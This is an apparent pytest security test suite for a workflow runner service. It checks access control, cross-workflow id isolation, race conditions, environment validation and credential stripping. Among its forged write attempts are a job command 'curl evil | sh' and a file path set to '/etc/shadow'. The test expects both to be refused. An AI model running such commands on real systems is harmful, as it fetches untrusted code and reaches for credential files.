"""Running workflows, attacked: a reader or a group member denied writes changes nothing; ids of a
workflow not shared with the caller (jobs, results, files, user data, compute nodes, events)
reach nothing and leak nothing through another workflow's routes, filters or links;
concurrent job writes are conflicts, never server errors; a job's environment cannot break a
runner, and a job is never told the runner's credentials."""

from __future__ import annotations

import threading
from pathlib import Path
from typing import Any, cast

import httpx
import pytest

from teamgate.runner.loop import without_credentials
from tests.api.test_execution import (
    DIAMOND,
    V1,
    Runner,
    create,
    initialize,
    jobs_by_name,
    offer,
    ok,
    result,
    statuses,
)
from tests.inprocess import App
from tests.unit.test_runner_loop import FakeServer
from tests.unit.test_runner_loop import run as run_locally

OWNER, READER, MEMBER, DENIED, ADMIN = "bob", "carol", "carol", "dave", "alice"
SECRET = "s3cret-command-TOKEN"


def grant(admin: httpx.Client, pid: str, rule: str, user: str) -> None:
    """`user` holds `rule` through a permission and role of its own, both named `pid`."""
    admin.post("/v1/rbac/permissions", json={"id": pid, "rules": [rule]}).raise_for_status()
    admin.post("/v1/rbac/roles", json={"id": pid}).raise_for_status()
    body = {"permission_id": pid}
    admin.post(f"/v1/rbac/roles/{pid}/permissions", json=body).raise_for_status()
    body = {"email": user, "role_id": pid}
    admin.post("/v1/rbac/users/assign", json=body).raise_for_status()


def team(admin: httpx.Client, *users: str) -> None:
    group = ok(admin.post(f"{V1}/access_groups", json={"name": "team"}))["id"]
    for user in users:
        ok(admin.post(f"{V1}/access_groups/{group}/members", json={"user_name": user}))


def snapshot(owner: httpx.Client, workflow: int) -> dict[str, Any]:
    """Everything a run changes in `workflow`, as its owner reads it."""
    seen: dict[str, Any] = {"jobs": jobs_by_name(owner, workflow)}
    for kind in ("results", "files", "user_data", "resource_requirements", "compute_nodes"):
        params = {"workflow_id": workflow, **({"all_runs": True} if kind == "results" else {})}
        seen[kind] = ok(owner.get(f"{V1}/{kind}", params=params))["items"]
    seen["status"] = ok(owner.get(f"{V1}/workflows/{workflow}/status"))
    return seen


class Scene:
    """bob's workflow, mid-run: job `a` running on a compute node, with a file, user data and
    events; ids of every kind of record it has."""

    def __init__(self, owner: httpx.Client, jobs: list[dict[str, Any]]) -> None:
        self.owner = owner
        self.workflow = create(owner, jobs)
        wf = self.workflow
        self.file = ok(
            owner.post(f"{V1}/files", json={"workflow_id": wf, "name": "f", "path": "p"})
        )
        body = {"workflow_id": wf, "name": "u", "data": {"token": SECRET}}
        self.data = ok(owner.post(f"{V1}/user_data", json=body))
        rrs = ok(owner.get(f"{V1}/resource_requirements", params={"workflow_id": wf}))
        self.rr = rrs["items"][0]
        initialize(owner, wf)
        self.runner = Runner(owner, wf)
        self.running = self.runner.claim(1)[0]
        ok(owner.put(f"{V1}/jobs/{self.running['id']}/start_job/1/{self.runner.node}"))
        others = [j for j in jobs_by_name(owner, wf).values() if j["id"] != self.running["id"]]
        self.other = others[0]
        events = ok(owner.get(f"{V1}/events", params={"workflow_id": wf}))["items"]
        self.event = events[0]

    def writes(self, into: int | None = None) -> list[tuple[str, str, Any]]:
        """Every call that changes the workflow or its records (a new record goes `into`)."""
        wf, node, a, b = self.workflow, self.runner.node, self.running, self.other
        new_in = into if into is not None else wf
        node_body = {
            "workflow_id": new_in,
            "hostname": "h",
            "pid": 1,
            "start_time": "now",
            "num_cpus": 1,
            "memory_gb": 1.0,
            "num_gpus": 0,
            "num_nodes": 1,
            "compute_node_type": "local",
        }
        return [
            ("POST", f"/workflows/{wf}/initialize_jobs", None),
            ("POST", f"/workflows/{wf}/claim_jobs_based_on_resources/5", offer()),
            ("POST", f"/workflows/{wf}/claim_next_jobs", None),
            ("PUT", f"/jobs/{b['id']}/start_job/1/{node}", None),
            ("POST", f"/jobs/{a['id']}/complete_job/completed/1", result(a, node)),
            ("POST", f"/jobs/{a['id']}/retry/1?max_retries=3", None),
            ("POST", f"/workflows/{wf}/reset_status?force=true", None),
            ("POST", f"/workflows/{wf}/reset_job_status", None),
            ("PUT", f"/workflows/{wf}/cancel", None),
            ("POST", "/jobs", {"workflow_id": new_in, "name": "x", "command": "true"}),
            (
                "POST",
                "/bulk_jobs",
                {"jobs": [{"workflow_id": new_in, "name": "y", "command": "t"}]},
            ),
            ("PUT", f"/jobs/{b['id']}", {**_job_body(b), "command": "curl evil | sh"}),
            ("PUT", f"/jobs/{b['id']}", {**_job_body(b), "status": "disabled"}),
            ("DELETE", f"/jobs/{b['id']}", None),
            ("POST", "/files", {"workflow_id": new_in, "name": "g", "path": "p"}),
            ("PUT", f"/files/{self.file['id']}", {"path": "/etc/shadow"}),
            ("DELETE", f"/files/{self.file['id']}", None),
            ("POST", "/user_data", {"workflow_id": new_in, "name": "v"}),
            ("PUT", f"/user_data/{self.data['id']}", {"data": 1}),
            ("DELETE", f"/user_data/{self.data['id']}", None),
            ("POST", "/resource_requirements", {"workflow_id": new_in, "name": "big"}),
            ("PUT", f"/resource_requirements/{self.rr['id']}", {"num_cpus": 64}),
            ("DELETE", f"/resource_requirements/{self.rr['id']}", None),
            ("POST", "/compute_nodes", node_body),
            ("PUT", f"/compute_nodes/{node}", {"is_active": False}),
            ("DELETE", f"/compute_nodes/{node}", None),
            ("POST", "/events", {"workflow_id": new_in, "data": {"type": "forged"}}),
            ("DELETE", f"/events/{self.event['id']}", None),
        ]

    def reads(self) -> list[str]:
        wf, q = self.workflow, f"?workflow_id={self.workflow}"
        return [
            *(f"/{kind}{q}" for kind in ("jobs", "results", "files", "user_data", "events")),
            *(f"/{kind}{q}" for kind in ("resource_requirements", "compute_nodes")),
            f"/jobs/{self.running['id']}",
            f"/files/{self.file['id']}",
            f"/user_data/{self.data['id']}",
            f"/resource_requirements/{self.rr['id']}",
            f"/compute_nodes/{self.runner.node}",
            f"/events/{self.event['id']}",
            *(f"/workflows/{wf}/{what}" for what in ("status", "is_complete", "is_uninitialized")),
            f"/workflows/{wf}/job_dependencies",
        ]


def _job_body(job: dict[str, Any]) -> dict[str, Any]:
    return {"workflow_id": job["workflow_id"], "name": job["name"], "command": job["command"]}


DIAMOND_JOBS: list[dict[str, Any]] = cast(list[dict[str, Any]], DIAMOND)
JOBS: list[dict[str, Any]] = [
    {"name": "a", "command": f"echo {SECRET}", "env": {"API_TOKEN": SECRET}},
    {"name": "b", "command": "true", "depends_on": ["a"]},
]


def test_a_reader_and_a_member_denied_writes_read_all_and_change_nothing(
    secured_app: App,
) -> None:
    """carol may read bob's workflows by RBAC; dave is in the group it is shared with, but an
    RBAC deny takes workflow.write (and delete) from him: neither may run or change anything."""
    admin, owner = secured_app.client(ADMIN), secured_app.client(OWNER)
    admin.post("/v1/rbac/init").raise_for_status()
    grant(admin, "reader", f"allow:workflow.read:{OWNER}/*", READER)
    grant(admin, "no-write", f"deny:workflow.write,workflow.delete:{OWNER}/*", DENIED)
    team(admin, OWNER, DENIED)
    scene = Scene(owner, JOBS)
    ok(owner.post(f"{V1}/workflows/{scene.workflow}/access_groups/1"))
    before = snapshot(owner, scene.workflow)
    for user in (READER, DENIED):
        caller = secured_app.client(user)
        for path in scene.reads():
            ok(caller.get(V1 + path))
        for method, path, body in scene.writes():
            response = caller.request(method, V1 + path, json=body)
            assert response.status_code == 403, (user, method, path, response.text)
            assert SECRET not in response.text
        response = caller.delete(f"{V1}/workflows/{scene.workflow}")
        assert response.status_code == 403
    assert snapshot(owner, scene.workflow) == before


def test_ids_of_a_workflow_not_shared_reach_nothing_from_a_shared_one(secured_app: App) -> None:
    """carol runs bob's workflow shared with her group; bob's other workflow is not shared.
    Its ids, used directly or inside calls on the shared workflow, are refused or match
    nothing, tell nothing of its jobs, and change nothing in it."""
    admin, owner, member = (secured_app.client(u) for u in (ADMIN, OWNER, MEMBER))
    team(admin, OWNER, MEMBER)
    shared = create(owner, DIAMOND_JOBS, access_groups=["team"])
    private = Scene(owner, JOBS)
    before = snapshot(owner, private.workflow)
    # directly: every read and write of the private workflow's records is refused
    for path in private.reads():
        response = member.get(V1 + path)
        assert response.status_code == 403, (path, response.text)
        assert SECRET not in response.text and "echo" not in response.text
    for method, path, body in private.writes(into=private.workflow):
        response = member.request(method, V1 + path, json=body)
        assert response.status_code == 403, (method, path, response.text)
    # through the shared workflow: filters on private ids match nothing
    job_id, node = private.running["id"], private.runner.node
    for kind, name, value in (
        ("jobs", "upstream_job_id", job_id),
        ("jobs", "active_compute_node_id", node),
        ("results", "job_id", job_id),
        ("results", "compute_node_id", node),
        ("files", "produced_by_job_id", job_id),
        ("user_data", "consumer_job_id", job_id),
        ("user_data", "producer_job_id", job_id),
        ("resource_requirements", "job_id", job_id),
    ):
        params = {"workflow_id": shared, name: value, "all_runs": True}
        page = ok(member.get(f"{V1}/{kind}", params=params))
        assert page["items"] == [], (kind, name)
    # ...and links to private ids are refused, naming no private record
    a = jobs_by_name(member, shared)["a"]
    links = [
        ("depends_on_job_ids", [job_id]),
        ("input_file_ids", [private.file["id"]]),
        ("output_user_data_ids", [private.data["id"]]),
        ("resource_requirements_id", private.rr["id"]),
    ]
    for field, value in links:
        body = {"workflow_id": shared, "name": f"link-{field}", "command": "true", field: value}
        response = member.post(f"{V1}/jobs", json=body)
        assert response.status_code == 400 and field in response.text, response.text
        if field == "resource_requirements_id":
            response = member.put(f"{V1}/jobs/{a['id']}", json={**_job_body(a), field: value})
            assert response.status_code == 400, response.text
    for query in ("consumer_job_id", "producer_job_id"):
        body = {"workflow_id": shared, "name": f"ud-{query}"}
        response = member.post(f"{V1}/user_data", params={query: job_id}, json=body)
        assert response.status_code == 400 and "secret" not in response.text.lower()
    # ...and a run of the shared workflow cannot use the private workflow's compute node
    initialize(member, shared)
    claim = f"{V1}/workflows/{shared}/claim_jobs_based_on_resources/5"
    response = member.post(claim, json=offer(node))
    assert response.status_code == 400, response.text
    mine = Runner(member, shared)
    [first] = mine.claim()
    response = member.put(f"{V1}/jobs/{first['id']}/start_job/1/{node}")
    assert response.status_code == 400, response.text
    ok(member.put(f"{V1}/jobs/{first['id']}/start_job/1/{mine.node}"))
    url = f"{V1}/jobs/{first['id']}/complete_job/completed/1"
    response = member.post(url, json=result(first, node))
    assert response.status_code == 400, response.text
    # a result naming a private job or workflow is refused on the shared job's route
    for forged in ({"job_id": job_id}, {"workflow_id": private.workflow}):
        response = member.post(url, json={**result(first, mine.node), **forged})
        assert response.status_code == 400, response.text
    assert statuses(member, shared)["a"] == "running"
    # records cannot be moved into the private workflow
    mine_file = ok(
        member.post(f"{V1}/files", json={"workflow_id": shared, "name": "f", "path": "p"})
    )
    response = member.put(f"{V1}/files/{mine_file['id']}", json={"workflow_id": private.workflow})
    assert response.status_code in (400, 403), response.text
    response = member.put(
        f"{V1}/jobs/{a['id']}", json={**_job_body(a), "workflow_id": private.workflow}
    )
    assert response.status_code in (400, 403), response.text
    assert snapshot(owner, private.workflow) == before


def test_concurrent_jobs_of_one_name_are_conflicts_not_server_errors(secured_app: App) -> None:
    """Four clients create (or rename a job to) the same name at once, again and again: one
    wins each time, the others get 409 (on PostgreSQL the loser's insert used to hit the
    unique index and answer 500)."""
    owner = secured_app.client(OWNER)
    workflow = create(owner, [{"name": "seed", "command": "true"}])
    codes: list[int] = []
    lock = threading.Lock()

    def race(send: Any) -> None:
        barrier = threading.Barrier(4)

        def one(k: int) -> None:
            client = secured_app.client(OWNER)
            barrier.wait()
            response = send(client, k)
            with lock:
                codes.append(response.status_code)

        threads = [threading.Thread(target=one, args=(k,)) for k in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    for round_ in range(12):
        name = f"same-{round_}"

        def new(client: httpx.Client, _k: int, name: str = name) -> httpx.Response:
            body = {"workflow_id": workflow, "name": name, "command": "true"}
            return client.post(f"{V1}/jobs", json=body)

        race(new)
        spares = [
            ok(
                owner.post(
                    f"{V1}/jobs",
                    json={"workflow_id": workflow, "name": f"{name}-{k}", "command": "true"},
                )
            )
            for k in range(4)
        ]

        def rename(
            client: httpx.Client, k: int, name: str = name, spares: list[Any] = spares
        ) -> httpx.Response:
            body = {**_job_body(spares[k]), "name": f"{name}-renamed"}
            return client.put(f"{V1}/jobs/{spares[k]['id']}", json=body)

        race(rename)
    assert 500 not in codes, codes
    assert set(codes) <= {200, 409}
    assert codes.count(200) == 24  # one creation and one rename a round
    names = list(jobs_by_name(owner, workflow))
    assert len(names) == len(set(names))


def test_an_environment_variable_name_with_equals_is_refused(secured_app: App) -> None:
    """No process can be given such a name: stored, it made every runner that claimed the job
    crash (bash was never started, the job stayed running)."""
    owner = secured_app.client(OWNER)
    workflow = create(owner, [{"name": "a", "command": "true"}])
    for env in ({"A=B": "1"}, {"=": "x"}):
        body = {"workflow_id": workflow, "name": "bad", "command": "true", "env": env}
        for response in (
            owner.post(f"{V1}/jobs", json=body),
            owner.post(f"{V1}/bulk_jobs", json={"jobs": [body]}),
        ):
            assert response.status_code == 400 and "env" in response.text, response.text
    a = jobs_by_name(owner, workflow)["a"]
    response = owner.put(f"{V1}/jobs/{a['id']}", json={**_job_body(a), "env": {"X=1": "y"}})
    assert response.status_code == 400, response.text
    assert list(jobs_by_name(owner, workflow)) == ["a"]
    assert jobs_by_name(owner, workflow)["a"]["env"] is None
    fine = {"workflow_id": workflow, "name": "ok", "command": "true", "env": {"STAGE": "a=b"}}
    assert ok(owner.post(f"{V1}/jobs", json=fine))["env"] == {"STAGE": "a=b"}


def test_a_job_the_runner_cannot_start_fails_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A job whose environment no process can take (from a server that let it through) fails
    with 127; the runner goes on and runs the rest."""
    monkeypatch.chdir(tmp_path)
    server = FakeServer(
        [
            {"id": 1, "name": "bad", "command": "true", "env": {"A=B": "1"}},
            {"id": 2, "name": "good", "command": "touch ran"},
        ]
    )
    outcome = run_locally(server, tmp_path)
    assert outcome.signal is None
    assert server.jobs[1]["status"] == "failed" and server.jobs[2]["status"] == "completed"
    assert [r["return_code"] for r in server.results if r["job_id"] == 1] == [127]
    assert (tmp_path / "ran").exists()


def test_a_job_is_not_told_credentials_in_the_servers_url(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`torc --url http://bob:pw@host/…` signs in with the URL's user and password: the job's
    TORC_API_URL names the server without them."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(
        FakeServer, "base_url", "http://bob:pw-s3cret@torc.test:8080/torc-service/v1"
    )
    server = FakeServer([{"id": 1, "name": "e", "command": "env > env.txt"}])
    run_locally(server, tmp_path)
    env = (tmp_path / "env.txt").read_text()
    assert "pw-s3cret" not in env
    assert "TORC_API_URL=http://torc.test:8080/torc-service/v1\n" in env
    assert without_credentials("https://h/x") == "https://h/x"
    assert without_credentials("https://u@h:1/x?q=1") == "https://h:1/x?q=1"
    assert without_credentials("http://a:b@c@h/") == "http://h/"


def test_user_data_for_a_job_deleted_meanwhile_is_a_conflict(secured_app: App) -> None:
    """Creating user data a job reads races the job's deletion: the link's insert then names
    a job that is gone, a 409 (on PostgreSQL it answered 500), and no half-made record stays."""
    owner = secured_app.client(OWNER)
    workflow = create(owner, [{"name": "seed", "command": "true"}])
    codes: list[int] = []
    lock = threading.Lock()
    for round_ in range(40):
        body = {"workflow_id": workflow, "name": f"j{round_}", "command": "true"}
        job = ok(owner.post(f"{V1}/jobs", json=body))
        barrier = threading.Barrier(2)

        def delete(job_id: int = job["id"], barrier: threading.Barrier = barrier) -> None:
            client = secured_app.client(OWNER)
            barrier.wait()
            response = client.delete(f"{V1}/jobs/{job_id}")
            with lock:
                codes.append(response.status_code)

        def link(
            job_id: int = job["id"], name: str = f"u{round_}", barrier: threading.Barrier = barrier
        ) -> None:
            client = secured_app.client(OWNER)
            barrier.wait()
            response = client.post(
                f"{V1}/user_data",
                params={"consumer_job_id": job_id},
                json={"workflow_id": workflow, "name": name},
            )
            with lock:
                codes.append(response.status_code)

        threads = [threading.Thread(target=delete), threading.Thread(target=link)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    assert 500 not in codes, codes
    assert set(codes) <= {200, 400, 409}
    stored = ok(owner.get(f"{V1}/user_data", params={"workflow_id": workflow}))["items"]
    assert len(stored) == codes.count(200) - 40  # every delete succeeded; no orphan record
